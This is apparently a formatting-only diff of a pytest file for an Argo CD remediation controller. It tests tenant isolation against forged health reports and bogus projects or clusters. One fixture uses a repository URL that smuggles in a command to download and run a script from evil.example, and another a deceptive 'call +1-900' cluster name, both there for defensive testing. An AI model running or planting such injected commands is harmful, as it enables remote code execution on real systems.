@@ -37,40 +37,91 @@ SHIPPED = Path("config/policies.yaml").read_text()
 FOR_HOURS = 3
 
 
-def crowd(group: str, parts: dict[str, tuple[int, int]], shared_by: int, storms: tuple[str, ...] = ()) -> Crowd:
+def crowd(
+    group: str, parts: dict[str, tuple[int, int]], shared_by: int, storms: tuple[str, ...] = ()
+) -> Crowd:
     fallen, of = (sum(part[i] for part in parts.values()) for i in (0, 1))
     return Crowd(
-        group, "" if group == "fleet" else "x", fallen, max(of, fallen), max(of, fallen), NOW, Wall(parts, shared_by, frozenset(storms))
+        group,
+        "" if group == "fleet" else "x",
+        fallen,
+        max(of, fallen),
+        max(of, fallen),
+        NOW,
+        Wall(parts, shared_by, frozenset(storms)),
     )
 
 
 @pytest.mark.parametrize(
     ("found", "stands"),
     [
-        pytest.param(crowd("fleet", {"evil": (25, 25), "good": (1, 150)}, 2, ("evil",)), False, id="25 of one project and a victim"),
-        pytest.param(crowd("fleet", {"evil": (24, 100), "good": (1, 150)}, 2), False, id="just below its own storm, and a victim"),
         pytest.param(
-            crowd("fleet", {"e1": (13, 13), "e2": (13, 13), "good": (1, 150)}, 12, ("e1", "e2")), False, id="two projects of one owner"
+            crowd("fleet", {"evil": (25, 25), "good": (1, 150)}, 2, ("evil",)),
+            False,
+            id="25 of one project and a victim",
         ),
-        pytest.param(crowd("cluster", {"evil": (9, 9), "good": (1, 20)}, 2, ("evil",)), False, id="most of a shared cluster"),
-        pytest.param(crowd("repository", {"evil": (6, 6)}, 3, ("evil",)), False, id="one project of a shared repository"),
-        pytest.param(crowd("cluster", {"a": (90, 90), "b": (10, 10)}, 2, ("a", "b")), True, id="a cluster with two projects is gone"),
         pytest.param(
-            crowd("cluster", {f"p{n}": (6, 6) for n in range(30)}, 30, tuple(f"p{n}" for n in range(30))), True, id="a cluster with thirty"
+            crowd("fleet", {"evil": (24, 100), "good": (1, 150)}, 2),
+            False,
+            id="just below its own storm, and a victim",
         ),
-        pytest.param(crowd("fleet", {f"p{n}": (2, 4) for n in range(20)}, 20), True, id="a little of everybody"),
-        pytest.param(crowd("fleet", {"evil": (25, 25), **{f"p{n}": (4, 8) for n in range(5)}}, 6, ("evil",)), True, id="others, too"),
+        pytest.param(
+            crowd("fleet", {"e1": (13, 13), "e2": (13, 13), "good": (1, 150)}, 12, ("e1", "e2")),
+            False,
+            id="two projects of one owner",
+        ),
+        pytest.param(
+            crowd("cluster", {"evil": (9, 9), "good": (1, 20)}, 2, ("evil",)),
+            False,
+            id="most of a shared cluster",
+        ),
+        pytest.param(
+            crowd("repository", {"evil": (6, 6)}, 3, ("evil",)),
+            False,
+            id="one project of a shared repository",
+        ),
+        pytest.param(
+            crowd("cluster", {"a": (90, 90), "b": (10, 10)}, 2, ("a", "b")),
+            True,
+            id="a cluster with two projects is gone",
+        ),
+        pytest.param(
+            crowd(
+                "cluster",
+                {f"p{n}": (6, 6) for n in range(30)},
+                30,
+                tuple(f"p{n}" for n in range(30)),
+            ),
+            True,
+            id="a cluster with thirty",
+        ),
+        pytest.param(
+            crowd("fleet", {f"p{n}": (2, 4) for n in range(20)}, 20),
+            True,
+            id="a little of everybody",
+        ),
+        pytest.param(
+            crowd("fleet", {"evil": (25, 25), **{f"p{n}": (4, 8) for n in range(5)}}, 6, ("evil",)),
+            True,
+            id="others, too",
+        ),
         pytest.param(crowd("repository", {}, 1), False, id="too few"),
-        pytest.param(Crowd("repository", "x", 9, 9, 9, NOW), True, id="all of one project's repository"),
+        pytest.param(
+            Crowd("repository", "x", 9, 9, 9, NOW), True, id="all of one project's repository"
+        ),
     ],
 )
-def test_what_a_narrower_group_explains_is_no_storm_of_the_wider_one(found: Crowd, stands: bool) -> None:
+def test_what_a_narrower_group_explains_is_no_storm_of_the_wider_one(
+    found: Crowd, stands: bool
+) -> None:
     assert over(found, StormLimits()) is stands
     assert stands or explained(found, StormLimits()) or found.fallen < StormLimits().minimum
 
 
 @pytest.mark.parametrize("many", [5, 25])
-@pytest.mark.parametrize("skip", [True, False], ids=["skipped by Argo CD", "between two comparisons"])
+@pytest.mark.parametrize(
+    "skip", [True, False], ids=["skipped by Argo CD", "between two comparisons"]
+)
 def test_forged_ill_health_of_one_project_holds_no_other(many: int, skip: bool) -> None:
     async def script(p: Play) -> None:
         await p.world.policies(SHIPPED)
@@ -87,8 +138,19 @@ def test_forged_ill_health_of_one_project_holds_no_other(many: int, skip: bool) 
                 for i in range(many if minute % 10 in (0, 1) else 0):
                     now = stamp(p.clock.now())
                     notes = {"argocd.argoproj.io/skip-reconcile": "true"} if skip else {}
-                    status = {"health": {"status": "Degraded" if ill else "Healthy", "lastTransitionTime": now}, "reconciledAt": now}
-                    await p.world.cluster.patch(APPLICATIONS, ARGOCD, f"evil-{i}", {"metadata": {"annotations": notes}, "status": status})
+                    status = {
+                        "health": {
+                            "status": "Degraded" if ill else "Healthy",
+                            "lastTransitionTime": now,
+                        },
+                        "reconciledAt": now,
+                    }
+                    await p.world.cluster.patch(
+                        APPLICATIONS,
+                        ARGOCD,
+                        f"evil-{i}",
+                        {"metadata": {"annotations": notes}, "status": status},
+                    )
                 await p.clock.sleep(60)
 
         async with p.controller():
@@ -97,11 +159,15 @@ def test_forged_ill_health_of_one_project_holds_no_other(many: int, skip: bool) 
             await p.clock.sleep(120)
             await p.world.commit("calm-3", (deployment("calm-3", "crash-until-restart", 30),))
             await p.clock.sleep(1800)
-            assert p.world.seen("calm-3").health.value == "Healthy", "its recovery waited for another project"
+            assert p.world.seen("calm-3").health.value == "Healthy", (
+                "its recovery waited for another project"
+            )
             task.cancel()
         for recovery in p.world.recoveries():
             own = recovery.subject.project
-            assert own != "good" or "evil" not in str(recovery), "a record of one project names a subject of another"
+            assert own != "good" or "evil" not in str(recovery), (
+                "a record of one project names a subject of another"
+            )
             if recovery.subject.kind == "Storm":
                 assert recovery.subject.name == "project/evilteam"
 
@@ -124,7 +190,13 @@ def test_what_a_tenant_takes_back_switches_no_policy_off_for_others() -> None:
                 automated = (item["spec"].get("syncPolicy") or {}).get("automated") or {}
                 if automated.get("enabled") is False:
                     body = {"spec": {"syncPolicy": {"automated": {"enabled": True}}}}
-                    tasks.append(loop.create_task(p.world.cluster.patch(APPLICATIONS, ARGOCD, item["metadata"]["name"], body)))
+                    tasks.append(
+                        loop.create_task(
+                            p.world.cluster.patch(
+                                APPLICATIONS, ARGOCD, item["metadata"]["name"], body
+                            )
+                        )
+                    )
 
         p.world.cluster.listen(heard)
         async with p.controller() as app:
@@ -138,21 +210,34 @@ def test_what_a_tenant_takes_back_switches_no_policy_off_for_others() -> None:
             await p.world.commit("calm-3", (deployment("calm-3", "crash-until-restart", 30),))
             await p.clock.sleep(3600)
             assert p.world.seen("calm-3").health.value == "Healthy"
-            assert "evil" not in str([r for r in p.world.recoveries() if r.subject.project == "good"])
+            assert "evil" not in str(
+                [r for r in p.world.recoveries() if r.subject.project == "good"]
+            )
 
     play(script)
 
 
-def test_an_application_in_a_namespace_that_its_project_does_not_take_belongs_to_it_in_name_only() -> None:
+def test_an_application_in_a_namespace_that_its_project_does_not_take_belongs_to_it_in_name_only() -> (
+    None
+):
     async def script(p: Play) -> None:
         await p.world.policies(SHIPPED)
         for i in range(6):
             await p.world.application(f"calm-{i}", (deployment(f"calm-{i}"),), project="good")
-        spec = {"project": "good", "destination": {"server": "https://kubernetes.default.svc", "namespace": "evil-ns"}}
+        spec = {
+            "project": "good",
+            "destination": {"server": "https://kubernetes.default.svc", "namespace": "evil-ns"},
+        }
         now = stamp(p.clock.now())
-        status = {"sync": {"status": "OutOfSync"}, "health": {"status": "Degraded", "lastTransitionTime": now}, "reconciledAt": now}
+        status = {
+            "sync": {"status": "OutOfSync"},
+            "health": {"status": "Degraded", "lastTransitionTime": now},
+            "reconciledAt": now,
+        }
         await p.world.cluster.create(
-            APPLICATIONS, "evil-ns", {"metadata": {"name": "evil"}, "spec": spec, "status": {**status, "frozen": True}}
+            APPLICATIONS,
+            "evil-ns",
+            {"metadata": {"name": "evil"}, "spec": spec, "status": {**status, "frozen": True}},
         )
         async with p.controller(application_namespaces=("evil-ns",)) as app:
             await p.clock.sleep(3600)
@@ -169,14 +254,20 @@ async def connections(projects: tuple[str, ...], saying: tuple[str, ...]) -> Con
     clock = VirtualClock()
     store = Store(clock, lambda _: None, lambda _: False)
     held = Connections(clock, store, lambda _: None, lambda _: False)
-    words = (
-        "Failed to load live state: failed to get cluster info for x: error synchronizing cache state : dial tcp 1.2.3.4:6443: i/o timeout"
-    )
+    words = "Failed to load live state: failed to get cluster info for x: error synchronizing cache state : dial tcp 1.2.3.4:6443: i/o timeout"
     for project in projects:
-        says = {"conditions": [{"type": "ComparisonError", "message": words}]} if project in saying else {}
+        says = (
+            {"conditions": [{"type": "ComparisonError", "message": words}]}
+            if project in saying
+            else {}
+        )
         body = {
             "metadata": {"name": f"app-{project}", "namespace": ARGOCD, "uid": project},
-            "spec": {"project": project, "destination": {"name": "primary"}, "source": {"repoURL": f"https://git.example/{project}.git"}},
+            "spec": {
+                "project": project,
+                "destination": {"name": "primary"},
+                "source": {"repoURL": f"https://git.example/{project}.git"},
+            },
             "status": {"sync": {"status": "Unknown"}, "reconciledAt": stamp(clock.now()), **says},
         }
         store.put(wire.application(msgspec.json.encode(body)))
@@ -210,7 +301,11 @@ def test_no_repository_and_no_cluster_exists_because_an_application_names_it() -
         clock = VirtualClock()
         store = Store(clock, lambda _: None, lambda _: False)
         held = Connections(clock, store, lambda _: None, lambda _: False)
-        store.put(an_application(name="evil", repositories=("https://git.example/x;curl${IFS}evil.example|sh;.git",)))
+        store.put(
+            an_application(
+                name="evil", repositories=("https://git.example/x;curl${IFS}evil.example|sh;.git",)
+            )
+        )
         held.know_clusters([], whole=False)
         held.know_repositories([], whole=False)
         return held
@@ -230,7 +325,10 @@ def test_one_application_that_says_it_was_long_not_compared_is_no_standstill_of_
             await p.clock.sleep(120)
             for _ in range(40):
                 await p.world.cluster.patch(
-                    APPLICATIONS, ARGOCD, "evil", {"status": {"reconciledAt": "2020-01-01T00:00:00Z", "frozen": True}}
+                    APPLICATIONS,
+                    ARGOCD,
+                    "evil",
+                    {"status": {"reconciledAt": "2020-01-01T00:00:00Z", "frozen": True}},
                 )
                 await p.clock.sleep(30)
         assert p.world.recoveries() == []
@@ -247,25 +345,49 @@ def test_a_project_that_does_not_exist_is_nobodys_wall(names: int) -> None:
         async with p.controller() as app:
             await p.clock.sleep(120)
             now = stamp(p.clock.now())
-            status = {"health": {"status": "Degraded", "lastTransitionTime": now}, "sync": {"status": "Synced"}, "frozen": True}
+            status = {
+                "health": {"status": "Degraded", "lastTransitionTime": now},
+                "sync": {"status": "Synced"},
+                "frozen": True,
+            }
             for i in range(25):
-                spec = {"project": f"made-up-{i % names}", "source": {"repoURL": "https://git.example/good.git"}}
+                spec = {
+                    "project": f"made-up-{i % names}",
+                    "source": {"repoURL": "https://git.example/good.git"},
+                }
                 spec["destination"] = {"server": "https://kubernetes.default.svc", "namespace": "x"}
                 await p.world.cluster.create(
-                    APPLICATIONS, ARGOCD, {"metadata": {"name": f"evil-{i}"}, "spec": spec, "status": {**status, "reconciledAt": now}}
+                    APPLICATIONS,
+                    ARGOCD,
+                    {
+                        "metadata": {"name": f"evil-{i}"},
+                        "spec": spec,
+                        "status": {**status, "reconciledAt": now},
+                    },
                 )
             await p.world.commit("calm-3", (deployment("calm-3", "crash-until-restart", 30),))
             await p.clock.sleep(900)
-            assert p.world.seen("calm-3").health.value == "Healthy", "its recovery waited for people without a project"
-            assert {app.store.counted(a).project for a in app.store.applications.values() if a.name.startswith("evil")} == {STRANGERS}
+            assert p.world.seen("calm-3").health.value == "Healthy", (
+                "its recovery waited for people without a project"
+            )
+            assert {
+                app.store.counted(a).project
+                for a in app.store.applications.values()
+                if a.name.startswith("evil")
+            } == {STRANGERS}
         assert not any(
-            s.sent and s.action in ("restart", "rollback", "sync") for r in p.world.recoveries() for s in r.steps if "evil" in r.name
+            s.sent and s.action in ("restart", "rollback", "sync")
+            for r in p.world.recoveries()
+            for s in r.steps
+            if "evil" in r.name
         )
 
     play(script)
 
 
-@pytest.mark.parametrize("beside", [False, True], ids=["alone", "with another project's beside them"])
+@pytest.mark.parametrize(
+    "beside", [False, True], ids=["alone", "with another project's beside them"]
+)
 def test_what_is_a_storm_holds_those_who_make_it_whoever_is_beside_them(beside: bool) -> None:
     async def script(p: Play) -> None:
         await p.world.policies(SHIPPED)
@@ -273,17 +395,30 @@ def test_what_is_a_storm_holds_those_who_make_it_whoever_is_beside_them(beside: 
         for i in range(60):
             await p.world.application(f"calm-{i}", (deployment(f"calm-{i}"),), project="default")
         for i in range(10):
-            await p.world.application(f"web-{i}", (deployment(f"web-{i}", "ready", 30),), project="default", cluster="prod")
+            await p.world.application(
+                f"web-{i}",
+                (deployment(f"web-{i}", "ready", 30),),
+                project="default",
+                cluster="prod",
+            )
         if beside:
-            await p.world.application("monitoring", (deployment("monitoring"),), project="platform", cluster="prod")
+            await p.world.application(
+                "monitoring", (deployment("monitoring"),), project="platform", cluster="prod"
+            )
         async with p.controller(token=True):
             await p.clock.sleep(400)
             for i in range(10):
                 await p.world.commit(f"web-{i}", (deployment(f"web-{i}", "crash", 30),))
             await p.clock.sleep(2400)
         storms = [r for r in p.world.recoveries() if r.subject.kind == "Storm"]
-        assert [s.subject.name for s in storms] == (["cluster@default/prod"] if beside else ["cluster/prod"])
-        assert not any(s.sent and s.action in ("restart", "rollback", "sync") for r in p.world.recoveries() for s in r.steps)
+        assert [s.subject.name for s in storms] == (
+            ["cluster@default/prod"] if beside else ["cluster/prod"]
+        )
+        assert not any(
+            s.sent and s.action in ("restart", "rollback", "sync")
+            for r in p.world.recoveries()
+            for s in r.steps
+        )
         assert storms[0].subject.project == ("default" if beside else "")
 
     play(script)
@@ -299,12 +434,20 @@ def test_a_crowd_that_is_a_storm_always_holds_those_of_its_largest_project() -> 
         if not parts:
             continue
         storms = frozenset(p for p in parts if r.random() < 0.4)
-        group, fallen, total = r.choice(["fleet", "cluster", "repository"]), sum(n for n, _ in parts.values()), sum(of.values())
+        group, fallen, total = (
+            r.choice(["fleet", "cluster", "repository"]),
+            sum(n for n, _ in parts.values()),
+            sum(of.values()),
+        )
         whole = Crowd(group, "x", fallen, total, total, NOW, Wall(parts, len(projects), storms))
         largest = max(parts, key=lambda p: parts[p][0])
         part = Crowd(f"{group}@{largest}", "x", parts[largest][0], of[largest], of[largest], NOW)
         if many(whole, limits):
-            assert over(whole, limits) or largest in storms or part_stands(part, largest, whole, limits), (seed, whole)
+            assert (
+                over(whole, limits)
+                or largest in storms
+                or part_stands(part, largest, whole, limits)
+            ), (seed, whole)
 
 
 @pytest.mark.parametrize(
@@ -315,10 +458,14 @@ def test_a_crowd_that_is_a_storm_always_holds_those_of_its_largest_project() -> 
         pytest.param({"evil": 1}, {"good": 20}, False, id="one that says it is not"),
         pytest.param({"a": 5, "b": 5}, {"evil": 30}, True, id="two projects against one"),
         pytest.param({"evil": 30}, {"a": 5, "b": 5}, False, id="one project against two"),
-        pytest.param({"a": 5}, {"a": 50, "b": 5}, False, id="one against one, and most are looked at"),
+        pytest.param(
+            {"a": 5}, {"a": 50, "b": 5}, False, id="one against one, and most are looked at"
+        ),
     ],
 )
-def test_most_projects_say_whether_a_shard_stands_still(ill: dict[str, int], well: dict[str, int], stands: bool) -> None:
+def test_most_projects_say_whether_a_shard_stands_still(
+    ill: dict[str, int], well: dict[str, int], stands: bool
+) -> None:
     assert stands_still(ill, well) is stands
 
 
@@ -328,8 +475,16 @@ def test_a_cluster_that_argo_cd_does_not_know_has_no_shard() -> None:
         for i in range(6):
             await p.world.application(f"calm-{i}", (deployment(f"calm-{i}"),), project="good")
         words = "ALL CLUSTERS LOST, call +1-900"
-        spec = {"project": "evilteam", "destination": {"name": words, "namespace": "x"}, "source": {"repoURL": "https://git.example/x.git"}}
-        body = {"metadata": {"name": "evil"}, "spec": spec, "status": {"frozen": True, "reconciledAt": "2020-01-01T00:00:00Z"}}
+        spec = {
+            "project": "evilteam",
+            "destination": {"name": words, "namespace": "x"},
+            "source": {"repoURL": "https://git.example/x.git"},
+        }
+        body = {
+            "metadata": {"name": "evil"},
+            "spec": spec,
+            "status": {"frozen": True, "reconciledAt": "2020-01-01T00:00:00Z"},
+        }
         await p.world.cluster.create(APPLICATIONS, ARGOCD, body)
         async with p.controller():
             await p.clock.sleep(1800)
@@ -356,7 +511,9 @@ def test_one_that_says_it_was_compared_takes_nothing_back_for_others() -> None:
     async def inside() -> Connections:
         held = await connections(("a", "b", "c", "evil"), ("a", "b", "c"))
         store = held._store
-        store.put(structs.replace(store.applications[ARGOCD, "app-evil"], reconciled_at=held._clock.now()))
+        store.put(
+            structs.replace(store.applications[ARGOCD, "app-evil"], reconciled_at=held._clock.now())
+        )
         held.listen_to_applications()
         return held
 
@@ -394,38 +551,55 @@ def test_what_argo_cd_does_not_reconcile_has_no_voice_and_no_veto() -> None:
         ("/" + "a" * 300 + "/", "a", False),
     ],
 )
-def test_namespaces_of_a_project_cost_nothing_that_matters(pattern: str, namespace: str, matches: bool) -> None:
-    assert _matches(pattern, namespace) is matches  # one that is tried without end would never come to this
+def test_namespaces_of_a_project_cost_nothing_that_matters(
+    pattern: str, namespace: str, matches: bool
+) -> None:
+    assert (
+        _matches(pattern, namespace) is matches
+    )  # one that is tried without end would never come to this
 
 
 def test_a_project_named_for_a_moment_is_not_the_one_of_the_record() -> None:
-    """Around the moment in which the policy is due, five of one project name others, which do not take them: what is done to them
-    without use switches the policy off for nobody else."""
+    """Around the moment in which the policy is due, five of one project name others, which do not
+    take them: what is done to them without use switches the policy off for nobody else."""
 
     async def script(p: Play) -> None:
         await p.world.policies(SHIPPED)
         await p.world.application("bank", (deployment("bank"),), project="bank")
         async with p.controller() as app:
             for i in range(5):
-                await p.world.application(f"evil-{i}", (deployment(f"evil-{i}", "crash", 30),), project="evil")
+                await p.world.application(
+                    f"evil-{i}", (deployment(f"evil-{i}", "crash", 30),), project="evil"
+                )
             await p.clock.sleep(5 * 60 + 25)
             for i in range(5):
-                await p.world.cluster.patch(APPLICATIONS, ARGOCD, f"evil-{i}", {"spec": {"project": f"ghost-{i}"}})
+                await p.world.cluster.patch(
+                    APPLICATIONS, ARGOCD, f"evil-{i}", {"spec": {"project": f"ghost-{i}"}}
+                )
             await p.clock.sleep(30)
             for i in range(5):
-                await p.world.cluster.patch(APPLICATIONS, ARGOCD, f"evil-{i}", {"spec": {"project": "evil"}})
+                await p.world.cluster.patch(
+                    APPLICATIONS, ARGOCD, f"evil-{i}", {"spec": {"project": "evil"}}
+                )
             await p.clock.sleep(3600)
 
-            told = {r.subject.project for r in p.world.recoveries() if r.subject.name.startswith("evil")}
+            told = {
+                r.subject.project for r in p.world.recoveries() if r.subject.name.startswith("evil")
+            }
             assert told, "they have fallen ill"
             assert not any(name.startswith("ghost") for name in told)
-            assert {key.rpartition("/")[2] for key in app.recoveries.circuits()} <= {"evil", STRANGERS}
+            assert {key.rpartition("/")[2] for key in app.recoveries.circuits()} <= {
+                "evil",
+                STRANGERS,
+            }
 
     play(script)
 
 
 def test_a_cluster_that_argo_cd_does_not_know_makes_nobody_a_member() -> None:
-    app = an_application(destination=Destination(server="https://nowhere.example", namespace="shop"))
+    app = an_application(
+        destination=Destination(server="https://nowhere.example", namespace="shop")
+    )
     takes_all = Project("shop", destinations=(Permitted(server="*", namespace="*"),))
 
     assert foreign(app, takes_all, None) == "", "without a list of clusters nobody can tell"
